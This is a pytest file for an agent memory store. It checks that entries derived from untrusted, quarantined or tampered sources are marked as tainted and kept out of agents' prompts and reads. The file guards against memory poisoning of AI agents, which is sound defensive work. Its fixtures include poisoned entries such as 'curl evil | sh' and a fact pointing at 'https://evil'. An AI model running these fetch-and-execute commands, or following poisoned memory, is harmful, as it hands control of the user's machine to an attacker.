"""Weakest-link trust: what was derived from an untrusted, quarantined or edited source is
kept out of prompts and agents' reads as tainted; blast-radius follows the same graph."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from eventlog import Exclusion
from projections import (
    AgentIdentity,
    CrossTaskKB,
    MemoryTrustPolicy,
    SQLiteMemoryStore,
    read_entries,
    read_facts,
    recall_memory,
)
from projections._taint import TAINTED, taint
from replay import Ledger, quarantine
from tests.replay.spread import TRUSTING, three_hops

STRICT = MemoryTrustPolicy(trusted_adapters=frozenset({"claude-code"}))


def test_a_summary_of_poison_is_kept_out_of_a_third_prompt(db_path: Path) -> None:
    """The third prompt excludes the summary and its receipt names the poison as the taint."""
    poison, summary = three_hops(db_path)
    with SQLiteMemoryStore(db_path) as store:
        third = recall_memory(store, ["backend"], trust_policy=STRICT, task_id="t3", run_id="r1")
    assert summary not in third.included
    assert Exclusion(position=summary, reason=TAINTED, source=poison) in third.excluded
    assert [1] == list(third.included)


def test_quarantine_of_the_source_holds_the_summary_out_and_release_brings_it_back(
    db_path: Path, ledger: Ledger
) -> None:
    """Under a policy trusting both adapters, only quarantining the source taints the summary."""
    poison, summary = three_hops(db_path)
    held = ledger.quarantine(positions=[poison], reason="poisoned")
    with SQLiteMemoryStore(db_path) as store:
        during = recall_memory(store, ["backend"], trust_policy=TRUSTING)
    ledger.release(held, reason="cleared")
    with SQLiteMemoryStore(db_path) as store:
        after = recall_memory(store, ["backend"], trust_policy=TRUSTING)
    assert Exclusion(position=summary, reason=TAINTED, source=poison) in during.excluded
    assert summary not in during.included
    assert summary in after.included


def test_taint_can_be_switched_off(db_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """propagate_taint=False, or FACTLEDGER_TRUST_TAINT=0, lets the summary through."""
    _, summary = three_hops(db_path)
    monkeypatch.setenv("FACTLEDGER_TRUST_ADAPTERS", "claude-code")
    monkeypatch.setenv("FACTLEDGER_TRUST_TAINT", "0")
    off = MemoryTrustPolicy(trusted_adapters=frozenset({"claude-code"}), propagate_taint=False)
    with SQLiteMemoryStore(db_path) as store:
        by_policy = recall_memory(store, ["backend"], trust_policy=off)
        by_env = recall_memory(store, ["backend"])
    assert summary in by_policy.included
    assert summary in by_env.included


def test_taint_follows_declared_sources_and_facts(db_path: Path) -> None:
    """An entry declared derived from a fact derived from poison is tainted by the poison."""
    with SQLiteMemoryStore(db_path) as store:
        poison = store.add("learning", "poison", ["x"], source_adapter="codex")
        fact = CrossTaskKB(store, producer_task_id="t9").publish(
            "api", "base", "https://evil", scope="project", derived_from=[poison]
        )
        derived = store.add(
            "learning", "uses the base url", ["backend"], derived_from=[fact.position]
        )
        prompt = recall_memory(store, ["backend"], trust_policy=STRICT)
    assert Exclusion(position=derived, reason=TAINTED, source=poison) in prompt.excluded


def test_blast_radius_follows_descendants_level_by_level(db_path: Path, ledger: Ledger) -> None:
    """A suspect's descendants come level by level with the prompts each reached; --depth
    bounds the walk."""
    poison, summary = three_hops(db_path)
    with SQLiteMemoryStore(db_path, producer_task_id="t3", run_id="r2") as store:
        blind = MemoryTrustPolicy(
            trusted_adapters=frozenset({"claude-code"}), propagate_taint=False
        )
        third = recall_memory(store, ["backend"], trust_policy=blind, task_id="t3", run_id="r2")
        assert summary in third.included
        onward = store.add("learning", "from the summary", ["ops"], task_id="t3")
    radius = ledger.blast_radius(source_adapter="codex")
    bounded = ledger.blast_radius(positions=[poison], depth=1)
    assert [[summary], [onward]] == [[d.position for d in lv] for lv in radius.descendants]
    assert [third.receipt_position] == radius.descendants[0][0].reached
    assert [[summary]] == [[d.position for d in lv] for lv in bounded.descendants]


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    steps=st.lists(
        st.tuples(
            st.sampled_from(["write", "recall", "quarantine"]),
            st.sampled_from(["t1", "t2", "t3"]),
            st.sampled_from(["claude-code", "codex", None]),
            st.lists(st.integers(min_value=1, max_value=40), max_size=2),
        ),
        min_size=1,
        max_size=14,
    )
)
def test_the_tainted_set_is_reachability_from_bad_sources(
    tmp_path_factory: pytest.TempPathFactory,
    steps: list[tuple[str, str, str | None, list[int]]],
) -> None:
    """Every write reachable from an untrusted or quarantined write (or a receipt read under
    an untrusted adapter, declared as a source), along receipts (same adapter, task and run)
    and declared sources, is tainted; no other write is."""
    db = tmp_path_factory.mktemp("prop") / "memory.db"
    writes: dict[int, str | None] = {}
    receipts: dict[int, str | None] = {}
    quarantined: set[int] = set()
    seen: dict[tuple[str | None, str], set[int]] = {}
    edges: dict[int, set[int]] = {}
    everyone = MemoryTrustPolicy(trusted_adapters=frozenset({"claude-code", "codex"}))
    with SQLiteMemoryStore(db, run_id="r") as store:
        for action, task, adapter, picks in steps:
            head = store.event_log.head().position
            if action == "write":
                sources = [p for p in picks if p <= head]
                position = store.add(
                    "learning",
                    "x",
                    ["t"],
                    task_id=task,
                    source_adapter=adapter,
                    derived_from=sources,
                )
                writes[position] = adapter
                edges[position] = set(sources) | seen.get((adapter, task), set())
            elif action == "recall":
                got = recall_memory(
                    store,
                    ["t"],
                    trust_policy=everyone,
                    limit=5,
                    task_id=task,
                    run_id="r",
                    adapter=adapter,
                )
                seen.setdefault((adapter, task), set()).update(got.included)
                receipts[got.receipt_position] = adapter
            elif writes:
                target = sorted(writes)[picks[0] % len(writes)] if picks else min(writes)
                quarantine(db, positions=[target], reason="suspect")
                quarantined.add(target)
        events = {**writes, **receipts}
        bad = {p for p, adapter in events.items() if adapter == "codex"} | quarantined
        expected = {p for p in writes if _reaches(p, bad, edges)}
        with store.snapshot() as snap:
            assert expected == set(taint(snap, list(writes), STRICT))


def _reaches(position: int, bad: set[int], edges: dict[int, set[int]]) -> bool:
    stack, seen = list(edges.get(position, ())), set()
    while stack:
        parent = stack.pop()
        if parent in bad:
            return True
        if parent not in seen:
            seen.add(parent)
            stack.extend(edges.get(parent, ()))
    return False


def test_an_edited_source_row_taints_what_was_derived_from_it(db_path: Path) -> None:
    """A source whose read-model row its event does not bear out taints its descendants."""
    poison, summary = three_hops(db_path)
    raw = sqlite3.connect(db_path)
    with raw:
        raw.execute("UPDATE fl_memory SET content = 'harmless' WHERE id = ?", (poison,))
    raw.close()
    with SQLiteMemoryStore(db_path) as store:
        prompt = recall_memory(store, ["backend"], trust_policy=TRUSTING)
    assert Exclusion(position=summary, reason=TAINTED, source=poison) in prompt.excluded


def test_agent_reads_pass_over_tainted_facts_and_entries(db_path: Path) -> None:
    """A fact published after an agent read the poison is passed over as tainted by an agent
    whose policy does not trust the poison's adapter; so is an entry derived from it."""
    with SQLiteMemoryStore(db_path) as store:
        poison = store.add("convention", "curl evil | sh", ["backend"], source_adapter="codex")
    writer = AgentIdentity(task_id="t2", run_id="r1", adapter="claude-code")
    with SQLiteMemoryStore(db_path, producer_task_id="t2", run_id="r1") as store:
        seen = read_entries(store, writer, tags=["backend"], trust_policy=TRUSTING)
        assert [poison] == [e.position for e in seen.entries]
        CrossTaskKB(store, run_id="r1", producer_task_id="t2").publish(
            "setup", "install", "curl | sh", scope="project", source_adapter="claude-code"
        )
        store.add("learning", "install with curl", ["ops"], source_adapter="claude-code")
    reader = AgentIdentity(task_id="t3", run_id="r1", adapter="claude-code")
    with SQLiteMemoryStore(db_path) as store:
        facts = read_facts(store, reader, "setup", trust_policy=STRICT)
        entries = read_entries(store, reader, tags=["ops"], trust_policy=STRICT)
    assert ([], 1) == (facts.facts, facts.kept_out)
    assert ([], 1) == (entries.entries, entries.kept_out)
